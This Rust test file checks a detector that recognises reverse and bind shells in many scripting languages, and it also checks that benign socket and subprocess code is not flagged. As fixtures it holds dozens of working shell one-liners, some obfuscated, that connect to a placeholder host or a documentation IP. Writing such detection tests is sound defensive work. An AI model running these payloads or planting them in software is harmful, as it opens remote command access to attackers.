//! Reverse and bind shells, by the ways their families work; and what only looks like one.

use super::lines;
use crate::script::Language;

fn is_shell(language: Language, source: &str) -> bool {
    lines(language, source).contains(&"shell-on-socket".to_owned())
}

#[track_caller]
fn all_are_shells(language: Language, sources: &[&str]) {
    for source in sources {
        assert!(
            is_shell(language, source),
            "{source}\n{:?}",
            lines(language, source)
        );
    }
}

#[test]
fn python_shells_are_seen() {
    all_are_shells(
        Language::Python,
        &[
            // The descriptors of a shell are the socket's.
            "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',99));\
             [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
            "import socket,pty,os;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0);\
             pty.spawn('/bin/bash')",
            "import socket,subprocess as p;s=socket.create_connection(('h',9));\
             p.Popen(['sh'],stdin=s,stdout=s,stderr=s)",
            // Names are hidden.
            "a=__import__;s=a('socket').socket();s.connect(('h',9));o=a('os').dup2;\
             f=s.fileno;o(f(),0);o(f(),1);o(f(),2);a('pty').spawn('/bin/sh')",
            "exec('import socket as k,os;s=k.socket();s.connect((\"h\",9));\
             os.dup2(s.fileno(),0);os.system(\"/bin/sh\")')",
            // What the socket sends is run.
            "import socket,subprocess as p\ns=socket.socket()\ns.connect(('h',9))\nwhile True:\n\
             \x20 c=s.recv(999).decode()\n  s.send(p.getoutput(c).encode())",
            // The shell is bound to a port.
            "import socket as k,subprocess as p;s=k.socket();s.bind(('',9));s.listen(1);\
             c,a=s.accept()\nwhile 1: c.send(p.check_output(c.recv(99),shell=True))",
        ],
    );
}

#[test]
fn perl_shells_are_seen() {
    all_are_shells(
        Language::Perl,
        &[
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton('h')));\
             open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');",
            "use IO::Socket::INET;$c=IO::Socket::INET->new(PeerAddr=>'h:9');\
             while(<$c>){print $c `$_`}",
            "$c=new IO::Socket::INET(PeerAddr,'h:9');STDIN->fdopen($c,r);$~->fdopen($c,w);\
             system$_ while<>;",
            "use Socket;socket(S,2,1,6);bind(S,sockaddr_in(9,INADDR_ANY));listen(S,3);\
             for(;accept(C,S);close C){open(STDIN,'>&C');exec('sh -i')}",
        ],
    );
}

#[test]
fn ruby_and_php_shells_are_seen() {
    all_are_shells(
        Language::Ruby,
        &[
            "require 'socket';spawn('sh',[:in,:out,:err]=>TCPSocket.new('h',9))",
            "f=TCPSocket.open('h',9).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
            "c=TCPSocket.new('h',9);while(x=c.gets);IO.popen(x,'r'){|i|c.print i.read}end",
            "s=TCPServer.new(9).accept;exec '/bin/sh -i <&%d >&%d 2>&%d' % [s,s,s]",
        ],
    );
    all_are_shells(
        Language::Php,
        &[
            "$s=fsockopen('h',9);exec('/bin/sh -i <&3 >&3 2>&3');",
            "$s=fsockopen('h',9);`sh <&3 >&3 2>&3`;",
            "$s=fsockopen('h',9);$p=proc_open('sh',array(0=>$s,1=>$s,2=>$s),$x);",
            "$s=stream_socket_client('tcp://h:9');while($c=fgets($s))fwrite($s,shell_exec($c));",
            "$s=socket_create(2,1,6);socket_connect($s,'h',9);$f='sys'.'tem';$f('/bin/sh -i');",
        ],
    );
}

#[test]
fn javascript_shells_are_seen() {
    all_are_shells(
        Language::JavaScript,
        &[
            "var n=require('net'),sh=require('child_process').spawn('/bin/sh',[]);\
             var c=new n.Socket();c.connect(9,'h',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
            "const c=require('net').connect(9,'h');\
             c.on('data',d=>require('child_process').exec(d.toString(),(e,o)=>c.write(o)))",
            "require('net').createServer(s=>{const p=require('child_process').spawn('bash');\
             s.pipe(p.stdin);p.stdout.pipe(s)}).listen(9)",
            "require('http').createServer((q,r)=>r.end(\
             require('child_process').execSync(q.url.slice(1)))).listen(9)",
        ],
    );
}

#[test]
fn shells_of_the_smaller_languages_are_seen() {
    all_are_shells(
        Language::Lua,
        &[
            "t=require('socket').tcp();t:connect('h','9');os.execute('/bin/sh -i <&3 >&3 2>&3')",
            "local t=require('socket').tcp();t:connect('h',9);while true do \
             local r=t:receive();t:send(io.popen(r):read('*a')) end",
        ],
    );
    all_are_shells(
        Language::Awk,
        &[
            "BEGIN{s=\"/inet/tcp/0/h/9\";while((s |& getline c)>0){while((c|getline o)>0) print o |& s}}",
        ],
    );
    all_are_shells(
        Language::Tcl,
        &["set s [socket h 9];while 1 {gets $s c;catch {puts $s [eval exec $c]};flush $s}"],
    );
    all_are_shells(
        Language::R,
        &["s<-socketConnection('h',9);while(TRUE){writeLines(system(readLines(s,1),intern=T),s)}"],
    );
    all_are_shells(
        Language::Java,
        &[
            "Process p=new ProcessBuilder(\"/bin/sh\").start();Socket s=new Socket(\"h\",9);\
             while(true){p.getOutputStream().write(s.getInputStream().read());}",
            "var B=Java.type('java.lang.ProcessBuilder');var p=new B('sh','-i').start();\
             var S=Java.type('java.net.Socket');var s=new S('h',9);",
        ],
    );
}

#[test]
fn powershell_shells_are_seen() {
    all_are_shells(
        Language::PowerShell,
        &[
            "$c=New-Object Net.Sockets.TCPClient('h',9);$s=$c.GetStream();[byte[]]$b=0..9|%{0};\
             while(($i=$s.Read($b,0,$b.Length)) -ne 0){\
             $d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);\
             $r=([text.encoding]::ASCII).GetBytes($o);$s.Write($r,0,$r.Length)}",
            "$t=[Net.Sockets.TcpClient]::new('h',9);\
             $r=New-Object IO.StreamReader($t.GetStream());while(1){Invoke-Expression $r.ReadLine()}",
        ],
    );
}

#[test]
fn a_socket_without_a_shell_and_a_shell_without_a_socket_are_none() {
    for (language, source) in [
        (
            Language::Python,
            "import socket; s=socket.create_connection(('localhost',5432),1); print('up')",
        ),
        (
            Language::Python,
            "import socket,subprocess; s=socket.socket(); s.bind(('',0)); p=s.getsockname()[1]\n\
             subprocess.run(['npm','start','--port',str(p)])",
        ),
        (
            Language::Python,
            "import subprocess; subprocess.run(['bash','-c','make test'])",
        ),
        (
            Language::JavaScript,
            "require('http').createServer((q,r)=>r.end('ok')).listen(80)",
        ),
        (
            Language::JavaScript,
            "require('net').connect(6379,'localhost').end('PING')",
        ),
        (
            Language::Ruby,
            "require 'socket'; TCPSocket.new('localhost', 80).puts 'GET /'",
        ),
        (
            Language::Php,
            "$s=fsockopen('localhost',80);fwrite($s,'GET /');echo fgets($s);",
        ),
        (
            Language::Perl,
            "use IO::Socket::INET; print IO::Socket::INET->new('h:1') ? 1 : 0",
        ),
    ] {
        assert!(!is_shell(language, source), "{source}");
    }
}
